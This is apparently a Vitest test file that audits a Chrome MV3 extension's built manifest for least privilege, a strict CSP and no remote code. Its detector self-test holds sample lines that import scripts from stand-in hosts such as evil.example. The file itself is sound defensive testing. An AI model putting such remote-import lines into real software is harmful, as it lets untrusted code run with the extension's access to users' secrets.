// @vitest-environment node
// Manifest audit (issue 8 §2, SPEC §3 "Least privilege"): reads the production build's
// manifest.json and every file shipped next to it. Uses the existing build when there is one;
// builds it (`npm run build`) only when .output/chrome-mv3/manifest.json is missing.

import { execSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';

const ROOT = resolve(__dirname, '../..');
const OUT = join(ROOT, '.output', 'chrome-mv3');
const MANIFEST = join(OUT, 'manifest.json');

/** What the extension needs, and nothing more (SPEC §3). A new entry must be justified in writing. */
// The four SPEC §3 names, plus (issue 5, SECURITY.md) offscreen + clipboardWrite to clear a copied
// secret after the popup has closed. Reading the clipboard stays an optional permission.
const NEEDED_PERMISSIONS = ['storage', 'scripting', 'activeTab', 'alarms', 'offscreen', 'clipboardWrite'];
const OPTIONAL_PERMISSIONS = ['clipboardRead'];
/** Optional host access is requested per registered origin at run time; only these patterns may be declared. */
const OPTIONAL_HOSTS = ['https://*/*', 'http://*/*'];

type Manifest = Record<string, unknown> & {
  manifest_version?: number;
  permissions?: string[];
  host_permissions?: string[];
  optional_host_permissions?: string[];
  optional_permissions?: string[];
  content_security_policy?: string | { extension_pages?: string; sandbox?: string };
  content_scripts?: { matches?: string[] }[];
};

let manifest: Manifest;
let files: string[];

function walk(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? walk(path) : [path];
  });
}

/** A match pattern whose host is a wildcard, or that matches every URL. */
function isBroadHost(pattern: string): boolean {
  if (pattern === '<all_urls>') return true;
  const match = /^([^:]+):\/\/([^/]*)\//.exec(pattern);
  if (!match) return true; // not a pattern we can reason about: treat as broad
  const [, scheme, host] = match;
  return scheme === '*' || host!.includes('*');
}

/** Directives of a CSP string, keyed by name. */
function directives(csp: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of csp.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/).filter(Boolean);
    if (name) map.set(name.toLowerCase(), sources.map((s) => s.toLowerCase()));
  }
  return map;
}

/** At least as strict as MV3's default `script-src 'self' 'wasm-unsafe-eval'; object-src 'self'`. */
function cspProblems(csp: string): string[] {
  const d = directives(csp);
  const problems: string[] = [];
  const script = d.get('script-src') ?? d.get('default-src');
  if (!script) problems.push('no script-src (or default-src) directive');
  for (const source of script ?? []) {
    if (!["'self'", "'wasm-unsafe-eval'", "'none'"].includes(source)) problems.push(`script source ${source}`);
  }
  for (const source of d.get('object-src') ?? []) {
    if (source !== "'self'" && source !== "'none'") problems.push(`object source ${source}`);
  }
  for (const [name, sources] of d) if (sources.includes("'unsafe-eval'")) problems.push(`${name} allows 'unsafe-eval'`);
  return problems;
}

/** Ways a built file could load code from another host (also protocol-relative `//host/…`). */
const REMOTE_CODE = [
  /<script[^>]*\bsrc\s*=\s*["']?\s*(https?:)?\/\//i, // <script src="http…">
  /\bimport\s*\(\s*["'`]\s*(https?:)?\/\//i, // dynamic import("http…")
  /\bimport\s*(?:[\w*{}\s,$]+\s*from\s*)?["'`]\s*(https?:)?\/\//i, // static import … from "http…"
  /\bimportScripts\s*\([^)]*["'`]\s*(https?:)?\/\//i, // importScripts("http…")
];

beforeAll(() => {
  if (!existsSync(MANIFEST)) {
    execSync('npm run build', { cwd: ROOT, stdio: 'pipe', timeout: 300_000 });
  }
  manifest = JSON.parse(readFileSync(MANIFEST, 'utf8')) as Manifest;
  files = walk(OUT);
}, 320_000);

describe('production manifest (.output/chrome-mv3)', () => {
  it('is Manifest V3', () => {
    expect(manifest.manifest_version).toBe(3);
  });

  it('asks for exactly storage, scripting, activeTab, alarms, offscreen and clipboardWrite; clipboardRead only optionally', () => {
    expect([...(manifest.permissions ?? [])].sort()).toEqual([...NEEDED_PERMISSIONS].sort());
    expect(manifest.optional_permissions ?? []).toEqual(OPTIONAL_PERMISSIONS);
  });

  it('grants no host access at install: no <all_urls>, no wildcard host', () => {
    const hosts = manifest.host_permissions ?? [];
    expect(hosts.filter(isBroadHost)).toEqual([]);
    // The production build has none at all; only the e2e build adds the loopback test servers.
    expect(hosts).toEqual([]);
    // Host access must not sneak in through statically declared content scripts either.
    const matches = (manifest.content_scripts ?? []).flatMap((c) => c.matches ?? []);
    expect(matches).toEqual([]);
  });

  it('declares only the http/https wildcards as optional host permissions', () => {
    for (const pattern of manifest.optional_host_permissions ?? []) expect(OPTIONAL_HOSTS).toContain(pattern);
  });

  it('has no externally_connectable: no web page or other extension can message Keyferry', () => {
    expect(manifest).not.toHaveProperty('externally_connectable');
  });

  it('exposes no web_accessible_resources', () => {
    expect(manifest).not.toHaveProperty('web_accessible_resources');
  });

  it('keeps the default CSP, or one at least as strict', () => {
    const csp = manifest.content_security_policy;
    if (csp === undefined) return; // MV3 default: script-src 'self' 'wasm-unsafe-eval'; object-src 'self'
    expect(typeof csp, 'MV3 wants an object here').toBe('object');
    const pages = typeof csp === 'object' ? csp.extension_pages : undefined;
    if (pages !== undefined) expect(cspProblems(pages)).toEqual([]);
    if (typeof csp === 'object' && csp.sandbox !== undefined) expect(cspProblems(csp.sandbox)).toEqual([]);
  });

  it('the CSP check itself rejects what it should', () => {
    expect(cspProblems("script-src 'self' 'wasm-unsafe-eval'; object-src 'self'")).toEqual([]);
    expect(cspProblems("script-src 'self' 'unsafe-eval'")).not.toEqual([]);
    expect(cspProblems("script-src 'self' https://cdn.example.com")).not.toEqual([]);
    expect(cspProblems("object-src 'self'")).not.toEqual([]);
  });

  it('ships no remote code: no script loaded from an http(s) URL in any built file', () => {
    const shipped = files.filter((f) => /\.(m?js|html)$/.test(f));
    expect(shipped.length).toBeGreaterThan(0);
    const remote = REMOTE_CODE;
    const found: string[] = [];
    for (const file of shipped) {
      const text = readFileSync(file, 'utf8');
      for (const pattern of remote) {
        const m = pattern.exec(text);
        if (m) found.push(`${relative(OUT, file)}: ${text.slice(m.index, m.index + 80)}`);
      }
    }
    expect(found).toEqual([]);
  });

  it('the remote-code scan itself finds what it should', () => {
    const samples = [
      '<script src="https://cdn.example.com/x.js"></script>',
      'import("https://evil.example/m.js")',
      'import { a } from "https://evil.example/m.js"',
      'importScripts("http://x.example/a.js")',
      '<script src="//cdn.example.com/x.js"></script>',
    ];
    const remote = REMOTE_CODE;
    for (const sample of samples) expect(remote.some((p) => p.test(sample)), sample).toBe(true);
    expect(remote.some((p) => p.test('<script type="module" src="/chunks/popup.js"></script>'))).toBe(false);
  });

  it('every script the manifest and popup name is a file inside the package', () => {
    const html = files.filter((f) => f.endsWith('.html'));
    for (const file of html) {
      for (const m of readFileSync(file, 'utf8').matchAll(/<script[^>]*\bsrc\s*=\s*["']([^"']+)["']/gi)) {
        const src = m[1]!;
        expect(src.startsWith('/') || src.startsWith('./') || !/^[a-z][a-z0-9+.-]*:/i.test(src), src).toBe(true);
        expect(existsSync(join(OUT, src.replace(/^\.?\//, ''))), src).toBe(true);
      }
    }
    const worker = (manifest.background as { service_worker?: string } | undefined)?.service_worker;
    expect(worker).toBeDefined();
    expect(existsSync(join(OUT, worker!))).toBe(true);
  });
});
